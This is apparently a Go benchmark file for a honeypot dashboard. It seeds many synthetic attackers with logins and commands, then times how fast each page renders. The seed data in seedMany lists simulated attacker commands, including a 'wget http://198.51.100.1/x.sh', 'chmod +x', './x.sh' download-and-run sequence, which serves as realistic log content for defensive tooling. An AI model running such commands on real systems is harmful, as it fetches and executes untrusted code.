package web

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/honeypot/asciicast"
	"github.com/decnet-go/decnet/internal/store"
)

// BenchmarkPages renders each screen over a store of many attackers
// (DECNET_BENCH_ATTACKERS, default 100 000, ten events each: about a
// million events, the size bench/apiload builds). The budget is 50 ms of
// server time per page; compare ns/op with it. Building the store takes a
// few minutes; DECNET_BENCH_STORE=path keeps it in that file and reuses it
// on later runs (delete the file after changing the seed).
//
//	go test ./internal/web -run '^$' -bench Pages -benchtime 20x
func BenchmarkPages(b *testing.B) {
	n := 100000
	if v, err := strconv.Atoi(os.Getenv("DECNET_BENCH_ATTACKERS")); err == nil && v > 0 {
		n = v
	}
	e, tagged, recorded := benchEnv(b, n)
	if _, err := e.st.UserByName(context.Background(), "alice"); err != nil {
		e.addUser("alice", roleAdmin, false)
	}
	br := e.browser()
	br.login("alice", testPassword)
	att, _, err := e.st.AttackersSorted(context.Background(), store.Page{Limit: 1}, store.SortActive)
	if err != nil || len(att) == 0 {
		b.Fatal(err)
	}
	for _, p := range []struct{ name, path string }{
		{"overview", "/ui/"},
		{"events", "/ui/events"},
		{"events_filtered", "/ui/events?service=ssh&type=command"},
		{"event", "/ui/events/42"},
		{"attackers", "/ui/attackers"},
		{"attackers_active", "/ui/attackers?sort=active"},
		{"attackers_search", "/ui/attackers?q=10.1.2"},
		{"attackers_page_100", "/ui/attackers?page=100"},
		{"attacker", "/ui/attackers/" + att[0].UUID},
		{"deckies", "/ui/deckies"},
		{"ttp", "/ui/ttp"},
		{"ttp_rules", "/ui/ttp/rules"},
		{"ttp_technique", "/ui/ttp/T1059.004"},
		{"ttp_inspector", "/ui/attackers/" + tagged.UUID + "/ttp/T1059.004"},
		{"attacker_recorded", "/ui/attackers/" + tagged.UUID},
		{"credentials", "/ui/credentials"},
		{"identities", "/ui/identities"},
		{"recording", fmt.Sprintf("/ui/recordings/%d", recorded)},
		{"settings", "/ui/settings"},
	} {
		if p.name == "overview" {
			// First: the first overview after a start, which counts every
			// stored event once; later ones read only what is new.
			b.Run("overview_first", func(b *testing.B) {
				for b.Loop() {
					e.d.counts = overviewCounts{}
					if rec := br.do("GET", p.path, nil); rec.Code != http.StatusOK {
						b.Fatalf("GET %s: %d", p.path, rec.Code)
					}
				}
			})
		}
		b.Run(p.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if rec := br.do("GET", p.path, nil); rec.Code != http.StatusOK {
					b.Fatalf("GET %s: %d", p.path, rec.Code)
				}
			}
		})
	}
}

// benchEnv is a dashboard over n seeded attackers plus the fixed seed, its
// insights and a recording; it returns the tagged attacker and the
// recording's event id. With DECNET_BENCH_STORE set, the store is kept in
// that file and reused when it exists.
func benchEnv(b *testing.B, n int) (*testEnv, store.Attacker, int64) {
	path := os.Getenv("DECNET_BENCH_STORE")
	if path == "" {
		path = filepath.Join(b.TempDir(), "decnet.db")
	}
	_, statErr := os.Stat(path)
	st, err := store.Open(context.Background(), path)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	d := New(Config{Version: "test", Now: func() time.Time { return testNow }}, st)
	e := &testEnv{t: b, st: st, d: d}
	data := filepath.Join(filepath.Dir(path), "bench-data")
	d.dataDir = data
	if statErr != nil {
		start := time.Now()
		seedMany(b, st, n)
		e.seed()
		e.seedInsights()
		e.seedRecording(data)
		b.Logf("seeded %d attackers in %v", n, time.Since(start).Round(time.Second))
	}
	ctx := context.Background()
	tagged, err := st.AttackerByIP(ctx, "203.0.113.5")
	if err != nil {
		b.Fatal(err)
	}
	rec, _, err := st.Events(ctx, store.Page{AttackerIP: "203.0.113.5", Type: asciicast.TypeSessionRecorded, Limit: 2})
	if err != nil || len(rec) == 0 {
		b.Fatal("no recording seeded", err)
	}
	return e, tagged, rec[len(rec)-1].ID
}

// seedMany stores n attackers with ten events each over the last day: a
// connect, two logins with credentials, six commands, a disconnect.
func seedMany(b *testing.B, st *store.Store, n int) {
	b.Helper()
	ctx := context.Background()
	const batch = 5000
	evs := make([]event.Event, 0, batch)
	flush := func() {
		if _, err := st.IngestBatch(ctx, evs); err != nil {
			b.Fatal(err)
		}
		evs = evs[:0]
	}
	services := []string{"ssh", "telnet", "http", "smb", "ftp"}
	commands := []string{"uname -a", "id", "cat /proc/cpuinfo", "wget http://198.51.100.1/x.sh", "chmod +x x.sh", "./x.sh"}
	for i := range n {
		ip := fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255)
		svc := services[i%len(services)]
		decky := fmt.Sprintf("decky-%02d", i%8)
		at := testNow.Add(-time.Duration(i%1440) * time.Minute)
		sess := fmt.Sprintf("m-%d", i)
		mk := func(typ string, k int, fields map[string]any) event.Event {
			x := event.New(decky, svc, typ)
			x.Time, x.SrcIP, x.SrcPort, x.Session, x.Fields = at.Add(time.Duration(k)*time.Second), ip, 40000+k, sess, fields
			return x
		}
		l1 := mk(event.TypeLoginAttempt, 1, nil)
		l1.Credential = event.NewCredential("root", "password", []byte("pw"+strconv.Itoa(i%500)), "failure")
		l2 := mk(event.TypeLoginAttempt, 2, nil)
		l2.Credential = event.NewCredential("admin", "password", []byte("admin"), "success")
		evs = append(evs, mk(event.TypeConnect, 0, nil), l1, l2)
		for k, c := range commands {
			evs = append(evs, mk(event.TypeCommand, 3+k, map[string]any{"command": c}))
		}
		evs = append(evs, mk(event.TypeDisconnect, 9, nil))
		if len(evs) >= batch {
			flush()
		}
	}
	if len(evs) > 0 {
		flush()
	}
}
